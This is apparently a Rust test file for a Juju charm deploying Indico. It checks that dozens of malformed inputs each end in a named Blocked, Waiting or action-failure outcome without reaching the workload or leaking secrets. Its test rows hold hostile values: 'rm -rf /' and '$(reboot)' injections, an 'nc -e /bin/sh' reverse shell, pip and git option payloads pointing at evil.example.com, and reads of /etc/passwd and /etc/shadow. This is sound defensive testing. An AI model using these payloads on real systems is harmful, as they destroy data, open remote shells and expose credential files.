//! The bad-input matrix (issue #7): one table row per malformed input (config options, the
//! model's proxy settings, every relation's databag, action parameters), each applied to a
//! unit that reached Active through Juju's initial hooks with every relation answered, then
//! the hook Juju runs for that input. One loop checks every row: the exact Blocked/Waiting
//! status or `action-fail` message, exit 0, the application's secret key untouched, no
//! Pebble write (the malformed value never reaches a workload), no relation data written,
//! and no secret value anywhere the unit shows text (logs, juju-log, statuses, tool calls).

#[path = "fixtures/indico_scenario.rs"]
mod fixtures;

use charm_scenario::{ModelProxy, Output, PebbleCall, Relation, ScenarioEvent, State};
use fixtures::*;
use juju_runtime::Status;
use serde_json::{Value, json};

const INGRESS_ID: u64 = 20;
const ROUTE_ID: u64 = 21;
const ADMIN_PASSWORD: &str = "s3cr3t-Adm1n-pw";

/// traefik-k8s's answer (ingress v2: the URL as JSON in the app bag).
fn ingress_relation() -> Relation {
    Relation::new("ingress", INGRESS_ID, "traefik-k8s")
        .with_interface("ingress")
        .with_remote_app_data([("ingress", r#"{"url": "https://events.example.com/"}"#)])
        .with_remote_unit(0, Vec::<(String, String)>::new())
}

const LOGGING_ID: u64 = 30;

/// loki-k8s's unit answer (`LokiPushApiProvider`: unit data `endpoint`, JSON).
fn logging_relation() -> Relation {
    Relation::new("logging", LOGGING_ID, "loki")
        .with_interface("loki_push_api")
        .with_remote_unit(
            0,
            [(
                "endpoint",
                r#"{"url": "http://loki-0.loki-endpoints.cos.svc.cluster.local:3100/loki/api/v1/push"}"#,
            )],
        )
}

fn nginx_route_relation() -> Relation {
    Relation::new("nginx-route", ROUTE_ID, "nginx-ingress-integrator")
        .with_interface("nginx-route")
        .with_remote_unit(0, Vec::<(String, String)>::new())
}

/// A new leader whose model holds every relation (core and optional, all answered) and a
/// fresh peer relation: the secret key does not exist yet and the leader creates it.
fn model() -> State {
    with_containers(
        core_leader_state(Vec::<(String, String)>::new())
            .with_relation(s3_relation())
            .with_relation(saml_relation())
            .with_relation(smtp_relation())
            .with_relation(ingress_relation())
            .with_relation(nginx_route_relation())
            .with_relation(logging_relation())
            .with_secret(smtp_secret()),
    )
}

/// The unit after Juju's initial hooks on [`model`], with its services running: Active.
fn converged() -> State {
    let outputs = context()
        .run_initial_hooks(model())
        .unwrap_or_else(|e| panic!("the initial hooks must succeed: {e}"));
    let mut state = outputs.last().expect("at least install ran").state.clone();
    for container in state.containers.values_mut() {
        *container = container.clone().with_enabled_services_running();
    }
    let out = context()
        .run(ScenarioEvent::update_status(), state)
        .unwrap();
    assert_eq!(
        out.state.unit_status,
        Some(Status::Active),
        "the matrix starts from Active"
    );
    assert!(out.pebble_writes().is_empty(), "and from a converged pod");
    out.state
}

/// What Juju would run for a row's input.
enum Hook {
    ConfigChanged,
    /// `<endpoint>-relation-changed` of relation `id`, remote unit 0.
    RelationChanged(u64),
    /// `indico-peers-relation-changed` (peer unit 1).
    PeersChanged,
    Action(&'static str, Vec<(&'static str, Value)>),
}

/// What a row must end in.
enum Expect {
    Status(Status),
    ActionFailure(String),
}

/// One row: a name, the change to the converged state, the hook, the expected outcome.
struct Case {
    name: &'static str,
    change: Box<dyn Fn(&mut State)>,
    hook: Hook,
    expect: Expect,
}

fn blocked(message: impl Into<String>) -> Expect {
    Expect::Status(Status::Blocked(message.into()))
}

fn waiting(message: impl Into<String>) -> Expect {
    Expect::Status(Status::Waiting(message.into()))
}

fn action_failure(message: impl Into<String>) -> Expect {
    Expect::ActionFailure(message.into())
}

/// A config row: option `option` set to `value`, then config-changed.
fn config(name: &'static str, option: &'static str, value: Value, expect: Expect) -> Case {
    Case {
        name,
        change: Box::new(move |s: &mut State| {
            s.config.insert(option.to_owned(), value.clone());
        }),
        hook: Hook::ConfigChanged,
        expect,
    }
}

fn config_invalid(
    name: &'static str,
    option: &'static str,
    value: impl Into<String>,
    reason: Option<&str>,
) -> Case {
    let message = match reason {
        Some(reason) => format!("Configuration option {option} is not valid: {reason}"),
        None => format!("Configuration option {option} is not valid"),
    };
    config(name, option, Value::String(value.into()), blocked(message))
}

/// A relation row: the remote app bag of relation `id` gets `key` = `value` (an empty value
/// removes the key, as in Juju), then that relation's changed hook.
fn app_bag(name: &'static str, id: u64, key: &'static str, value: &str, expect: Expect) -> Case {
    let value = value.to_owned();
    Case {
        name,
        change: Box::new(move |s: &mut State| {
            let bag = &mut s.relation_mut(id).expect("related").remote_app_data;
            if value.is_empty() {
                bag.remove(key);
            } else {
                bag.insert(key.to_owned(), value.clone());
            }
        }),
        hook: Hook::RelationChanged(id),
        expect,
    }
}

/// A redis row: unit 0's bag of relation `id` gets `key` = `value` (empty removes).
fn unit_bag(name: &'static str, id: u64, key: &'static str, value: &str, expect: Expect) -> Case {
    let value = value.to_owned();
    Case {
        name,
        change: Box::new(move |s: &mut State| {
            let bag = s
                .relation_mut(id)
                .expect("related")
                .remote_units_data
                .entry(0)
                .or_default();
            if value.is_empty() {
                bag.remove(key);
            } else {
                bag.insert(key.to_owned(), value.clone());
            }
        }),
        hook: Hook::RelationChanged(id),
        expect,
    }
}

fn peer_key(name: &'static str, key: &'static str, value: &'static str, expect: Expect) -> Case {
    Case {
        name,
        change: Box::new(move |s: &mut State| {
            s.relation_mut(PEERS_ID)
                .expect("peers")
                .local_app_data
                .insert(key.to_owned(), value.to_owned());
        }),
        hook: Hook::PeersChanged,
        expect,
    }
}

fn proxy(name: &'static str, proxy: ModelProxy, expect: Expect) -> Case {
    Case {
        name,
        change: Box::new(move |s: &mut State| s.model_proxy = proxy.clone()),
        hook: Hook::ConfigChanged,
        expect,
    }
}

fn action(
    name: &'static str,
    action: &'static str,
    params: Vec<(&'static str, Value)>,
    expect: Expect,
) -> Case {
    Case {
        name,
        change: Box::new(|_: &mut State| {}),
        hook: Hook::Action(action, params),
        expect,
    }
}

fn add_admin(email: &str, password: &str) -> Vec<(&'static str, Value)> {
    vec![("email", json!(email)), ("password", json!(password))]
}

fn rows() -> Vec<Case> {
    let long_host = format!("https://{}.example.com", "a".repeat(10_000));
    let db_endpoints =
        "relation database: key endpoints is not valid: the first entry is not host:port";
    let broker_port = |reason: &str| {
        blocked(format!(
            "relation redis-broker: key port of redis-broker/0 is not valid: {reason}"
        ))
    };
    let cache_port = |reason: &str| {
        blocked(format!(
            "relation redis-cache: key port of redis-cache/0 is not valid: {reason}"
        ))
    };
    let fifty_one: Vec<String> = (0..51).map(|i| format!("u{i}@example.com")).collect();
    let proxy_url = |reason: &str| {
        blocked(format!(
            "Model proxy setting JUJU_CHARM_HTTP_PROXY is not valid: {reason}"
        ))
    };
    vec![
        // --- site_url ---
        config_invalid("site_url without a host", "site_url", "https://", None),
        config_invalid(
            "site_url without a scheme",
            "site_url",
            "events.example.com",
            None,
        ),
        config_invalid(
            "site_url javascript:",
            "site_url",
            "javascript:alert(1)",
            None,
        ),
        config_invalid(
            "site_url with spaces",
            "site_url",
            "https://events example.com",
            None,
        ),
        config_invalid(
            "site_url port 0",
            "site_url",
            "https://events.example.com:0",
            None,
        ),
        config_invalid(
            "site_url port 70000",
            "site_url",
            "https://events.example.com:70000",
            None,
        ),
        // (A valid IDN such as évents.example.com is accepted: it becomes punycode.)
        config_invalid(
            "site_url unicode host with markup",
            "site_url",
            "https://évents☃<b>.example.com",
            None,
        ),
        config_invalid(
            "site_url DNS label over 63",
            "site_url",
            format!("https://{}.example.com", "b".repeat(64)),
            None,
        ),
        config_invalid("site_url 10k characters", "site_url", long_host, None),
        config_invalid(
            "site_url with a path",
            "site_url",
            "https://events.example.com/indico",
            None,
        ),
        config_invalid(
            "site_url with credentials",
            "site_url",
            "https://u:p@events.example.com",
            None,
        ),
        // --- emails ---
        config_invalid(
            "support email without @",
            "indico_support_email",
            "support",
            Some("expected an address of the form name@domain"),
        ),
        config_invalid(
            "public support email with shell injection",
            "indico_public_support_email",
            "a@b.c; rm -rf /",
            Some("an email address has no whitespace"),
        ),
        config_invalid(
            "no-reply email with a newline (header injection)",
            "indico_no_reply_email",
            "noreply@example.com\nBcc: all@example.com",
            Some("an email address has no whitespace"),
        ),
        config_invalid(
            "no-reply email empty",
            "indico_no_reply_email",
            "",
            Some("an email address is required"),
        ),
        config_invalid(
            "support email with an empty domain label",
            "indico_support_email",
            "a@example..com",
            Some("expected an address of the form name@domain"),
        ),
        // --- external_plugins ---
        config_invalid(
            "plugin with a shell command",
            "external_plugins",
            "indico-plugin-x; rm -rf /",
            Some("entry 1 contains whitespace"),
        ),
        config_invalid(
            "plugin --index-url",
            "external_plugins",
            "a,--index-url=https://evil.example.com/simple",
            Some("entry 2 starts with '-'"),
        ),
        config_invalid(
            "plugin -e (editable install)",
            "external_plugins",
            "-e git+https://evil.example.com/x.git",
            Some("entry 1 starts with '-'"),
        ),
        config_invalid(
            "plugin newline injection",
            "external_plugins",
            "indico-plugin-x\n-r /etc/passwd",
            Some("entry 1 contains whitespace"),
        ),
        config_invalid(
            "plugin with a requirements-file option without spaces",
            "external_plugins",
            "ok-plugin,-r/etc/shadow",
            Some("entry 2 starts with '-'"),
        ),
        // --- customization_sources_url ---
        config_invalid(
            "customization from a local path",
            "customization_sources_url",
            "file:///etc",
            Some("only https, http, ssh and git URLs or user@host:path are supported"),
        ),
        config_invalid(
            "customization through git's ext transport",
            "customization_sources_url",
            "ext::sh -c touch% /tmp/pwned",
            Some("a repository URL has no whitespace"),
        ),
        config_invalid(
            "customization through git's ext transport without spaces",
            "customization_sources_url",
            "ext::/tmp/pwned",
            Some("only https, http, ssh and git URLs or user@host:path are supported"),
        ),
        config_invalid(
            "customization --upload-pack",
            "customization_sources_url",
            "--upload-pack=touch /tmp/pwned",
            Some("a repository URL cannot start with '-'"),
        ),
        config(
            "uwsgi_processes zero",
            "uwsgi_processes",
            json!(0),
            blocked("Configuration option uwsgi_processes is not valid: expected 1 to 32"),
        ),
        config(
            "uwsgi_processes huge",
            "uwsgi_processes",
            json!(4_000_000_000_u64),
            blocked("Configuration option uwsgi_processes is not valid: expected 1 to 32"),
        ),
        config(
            "uwsgi_threads negative",
            "uwsgi_threads",
            json!(-2),
            blocked("Configuration option uwsgi_threads is not valid: expected 1 to 16"),
        ),
        // --- the model's proxy ---
        proxy(
            "proxy with a bad scheme",
            ModelProxy {
                http: Some("ftp://squid.internal:3128".into()),
                ..ModelProxy::default()
            },
            proxy_url("the scheme must be http or https"),
        ),
        proxy(
            "proxy garbage",
            ModelProxy {
                http: Some("squid internal:3128 ;".into()),
                ..ModelProxy::default()
            },
            proxy_url("relative URL without a base"),
        ),
        proxy(
            "no_proxy with a shell metacharacter",
            ModelProxy {
                no_proxy: Some("localhost,$(reboot)".into()),
                ..ModelProxy::default()
            },
            blocked(
                "Model proxy setting JUJU_CHARM_NO_PROXY is not valid: entry 2 is not a host, domain, IP address or network",
            ),
        ),
        // --- database ---
        app_bag(
            "database endpoints missing",
            DATABASE_ID,
            "endpoints",
            "",
            waiting("Waiting for database availability"),
        ),
        app_bag(
            "database host:notaport",
            DATABASE_ID,
            "endpoints",
            "postgresql-k8s-primary:notaport",
            blocked(db_endpoints),
        ),
        app_bag(
            "database empty password",
            DATABASE_ID,
            "password",
            "",
            waiting("Waiting for database availability"),
        ),
        app_bag(
            "database non-JSON in secret-user",
            DATABASE_ID,
            "secret-user",
            "{not json",
            blocked("relation database: key secret-user is not valid: not a secret URI"),
        ),
        app_bag(
            "database credentials secret missing",
            DATABASE_ID,
            "secret-user",
            "secret://6b5d5e26-1d5c-4b7a-8e31-2c7e1d3d1e42/d0gone00000000000001",
            waiting("Waiting for database availability"),
        ),
        app_bag(
            "database endpoints with injection",
            DATABASE_ID,
            "endpoints",
            "db;rm -rf /:5432",
            blocked(db_endpoints),
        ),
        // --- redis ---
        unit_bag(
            "broker port missing",
            BROKER_ID,
            "port",
            "",
            waiting("Waiting for redis-broker availability"),
        ),
        unit_bag(
            "broker port not numeric",
            BROKER_ID,
            "port",
            "six",
            broker_port("not a TCP port"),
        ),
        unit_bag(
            "broker port 70000",
            BROKER_ID,
            "port",
            "70000",
            broker_port("not a TCP port"),
        ),
        unit_bag(
            "broker host empty",
            BROKER_ID,
            "hostname",
            "",
            waiting("Waiting for redis-broker availability"),
        ),
        unit_bag(
            "cache port 70000",
            CACHE_ID,
            "port",
            "70000",
            cache_port("not a TCP port"),
        ),
        unit_bag(
            "cache host with injection",
            CACHE_ID,
            "hostname",
            "redis$(reboot)",
            blocked(
                "relation redis-cache: key hostname of redis-cache/0 is not valid: not a host name or address",
            ),
        ),
        // --- peers ---
        peer_key(
            "peers garbage celery-unit",
            "celery-unit",
            "☃/../../etc",
            blocked("relation indico-peers: key celery-unit is not valid: not a unit name"),
        ),
        peer_key(
            "peers secret-id not a URI",
            "secret-id",
            "; rm -rf /",
            blocked("relation indico-peers: key secret-id is not valid: not a secret URI"),
        ),
        // --- optional relations ---
        app_bag(
            "ingress answer not JSON",
            INGRESS_ID,
            "ingress",
            "http://not-json",
            blocked("relation ingress: key ingress is not valid: not JSON"),
        ),
        app_bag(
            "ingress url javascript:",
            INGRESS_ID,
            "ingress",
            r#"{"url": "javascript:alert(1)"}"#,
            blocked("relation ingress: key ingress is not valid: url is not an http(s) URL"),
        ),
        app_bag(
            "s3 secret-key with a comma (option injection)",
            S3_ID,
            "secret-key",
            &format!("{S3_SECRET_KEY},host=evil"),
            blocked(
                "relation s3: key secret-key is not valid: contains a comma, equals sign or whitespace",
            ),
        ),
        app_bag(
            "s3 endpoint without scheme",
            S3_ID,
            "endpoint",
            "s3.example.com:443",
            blocked("relation s3: key endpoint is not valid: not an http(s) URL"),
        ),
        app_bag(
            "saml certificates not base64",
            SAML_ID,
            "x509certs",
            "{\"pem\": \"☃\"}",
            blocked(
                "relation saml: key x509certs is not valid: not a comma-separated list of base64 certificates",
            ),
        ),
        app_bag(
            "saml sign-on URL javascript:",
            SAML_ID,
            "single_sign_on_service_redirect_url",
            "javascript:alert(1)",
            blocked(
                "relation saml: key single_sign_on_service_redirect_url is not valid: not an http(s) URL",
            ),
        ),
        app_bag(
            "smtp port not numeric",
            SMTP_ID,
            "port",
            "five-eight-seven",
            blocked("relation smtp: key port is not valid: not a TCP port"),
        ),
        app_bag(
            "smtp port 70000",
            SMTP_ID,
            "port",
            "70000",
            blocked("relation smtp: key port is not valid: not a TCP port"),
        ),
        app_bag(
            "smtp sender with header injection",
            SMTP_ID,
            "smtp_sender",
            "events@example.com\r\nBcc: all@example.com",
            blocked("relation smtp: key smtp_sender is not valid: not an email address"),
        ),
        app_bag(
            "s3 bucket of 100k characters",
            S3_ID,
            "bucket",
            &"b".repeat(100_000),
            blocked(
                "relation s3: key bucket is not valid: not an S3 bucket name (3 to 63 lower-case letters, digits, dots, hyphens)",
            ),
        ),
        app_bag(
            "smtp host with injection",
            SMTP_ID,
            "host",
            "smtp.example.com;nc -e /bin/sh evil 1",
            blocked("relation smtp: key host is not valid: not a host name or address"),
        ),
        unit_bag(
            "logging endpoint not JSON",
            LOGGING_ID,
            "endpoint",
            "http://loki:3100",
            blocked("relation logging: key endpoint of loki/0 is not valid: not JSON"),
        ),
        unit_bag(
            "logging endpoint file URL",
            LOGGING_ID,
            "endpoint",
            r#"{"url": "file:///etc/passwd"}"#,
            blocked(
                "relation logging: key endpoint of loki/0 is not valid: url is not an http(s) URL",
            ),
        ),
        app_bag(
            "nginx-route provider writes garbage (it answers nothing; ignored)",
            ROUTE_ID,
            "service-hostname",
            "; rm -rf /",
            Expect::Status(Status::Active),
        ),
        // --- actions ---
        action(
            "add-admin email without @",
            "add-admin",
            add_admin("not-an-email", ADMIN_PASSWORD),
            action_failure("Failed to create admin not-an-email: not a valid email address"),
        ),
        action(
            "add-admin email with shell injection",
            "add-admin",
            add_admin("a@b.c; rm -rf /", ADMIN_PASSWORD),
            action_failure("Failed to create admin a@b.c; rm -rf /: not a valid email address"),
        ),
        action(
            "add-admin empty password",
            "add-admin",
            add_admin("admin@example.com", ""),
            action_failure(
                "Failed to create admin admin@example.com: the password must not be empty",
            ),
        ),
        action(
            "anonymize-user 51 emails",
            "anonymize-user",
            vec![("email", json!(fifty_one.join(",")))],
            action_failure("Failed to anonymize user: List of more than 50 emails are not allowed"),
        ),
        action(
            "anonymize-user with a newline injection",
            "anonymize-user",
            vec![("email", json!("a@example.com\n--all"))],
            action_failure(
                "Failed to anonymize user a@example.com\n--all: not a valid email address",
            ),
        ),
        action(
            "anonymize-user empty",
            "anonymize-user",
            vec![("email", json!(""))],
            action_failure("Failed to anonymize user: no email address given"),
        ),
    ]
}

/// The secret values a row must never show.
fn secrets_of(state: &State) -> Vec<String> {
    let mut values = vec![
        DB_PASSWORD.to_owned(),
        S3_SECRET_KEY.to_owned(),
        SMTP_PASSWORD.to_owned(),
        ADMIN_PASSWORD.to_owned(),
    ];
    if let Some(key) = state.secret_by_label("indico-secret-key") {
        values.extend(key.latest_content().into_map().into_values());
    }
    values
}

fn event_for(hook: &Hook, state: &State) -> ScenarioEvent {
    match hook {
        Hook::ConfigChanged => ScenarioEvent::config_changed(),
        Hook::RelationChanged(id) => {
            ScenarioEvent::relation_changed(state.relation(*id).expect("related"), Some(0))
        }
        Hook::PeersChanged => {
            ScenarioEvent::relation_changed(state.relation(PEERS_ID).expect("peers"), Some(1))
        }
        Hook::Action(name, params) => ScenarioEvent::action(*name, params.clone()),
    }
}

fn check(case: &Case, base: &State) -> Result<(), String> {
    let mut input = base.clone();
    (case.change)(&mut input);
    let event = event_for(&case.hook, &input);
    let out: Output = context()
        .run(event, input.clone())
        .map_err(|e| format!("the hook must exit 0, got {e}"))?;
    match &case.expect {
        Expect::Status(status) => {
            if out.state.unit_status.as_ref() != Some(status) {
                return Err(format!(
                    "status {:?}, expected {status:?}",
                    out.state.unit_status
                ));
            }
        }
        Expect::ActionFailure(message) => {
            if out.action.failure.as_deref() != Some(message.as_str()) {
                return Err(format!(
                    "action failure {:?}, expected {message:?}",
                    out.action.failure
                ));
            }
        }
    }
    let writes = out.pebble_writes();
    if !writes.is_empty() {
        let calls: Vec<String> = writes
            .iter()
            .map(|c| match &c.call {
                PebbleCall::Push { path, .. } => format!("{}: push {path}", c.container),
                PebbleCall::AddLayer { layer, .. } => {
                    format!("{}: add layer {:?}", c.container, layer.summary)
                }
                call => format!("{}: {call:?}", c.container),
            })
            .collect();
        return Err(format!("Pebble writes: {calls:?}"));
    }
    if !out.service_transitions.is_empty() {
        return Err(format!("services changed: {:?}", out.service_transitions));
    }
    if !out.calls_to("relation-set").is_empty() {
        return Err(format!(
            "relation data written: {:?}",
            out.calls_to("relation-set")
        ));
    }
    let key_before = base.secret_by_label("indico-secret-key");
    let key_after = out.state.secret_by_label("indico-secret-key");
    if key_before.is_none() || key_before != key_after {
        return Err("the secret key secret changed".to_owned());
    }
    for tool in ["secret-add", "secret-set", "secret-remove"] {
        if !out.calls_to(tool).is_empty() {
            return Err(format!("{tool} called"));
        }
    }
    let text = visible_text(&out);
    if let Some(leaked) = secrets_of(base).iter().find(|s| text.contains(s.as_str())) {
        return Err(format!("a secret value leaked: {}...", &leaked[..4]));
    }
    Ok(())
}

#[test]
fn every_bad_input_gives_its_named_outcome_and_reaches_nothing() {
    let base = converged();
    let rows = rows();
    assert!(rows.len() >= 40, "the issue asks for at least 40 cases");
    let failures: Vec<String> = rows
        .iter()
        .filter_map(|case| {
            check(case, &base)
                .err()
                .map(|e| format!("{}: {e}", case.name))
        })
        .collect();
    assert!(
        failures.is_empty(),
        "{} of {} rows failed:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );
}

/// The loop must be able to fail: a good input (a valid config change) is a Pebble write,
/// which the check reports.
#[test]
fn the_check_reports_a_valid_input_that_reaches_the_workload() {
    let base = converged();
    let good = config(
        "a valid site_url",
        "site_url",
        json!("https://events.example.com"),
        Expect::Status(Status::Active),
    );
    let error = check(&good, &base).expect_err("a valid change writes to Pebble");
    assert!(error.starts_with("Pebble writes"), "{error}");
}
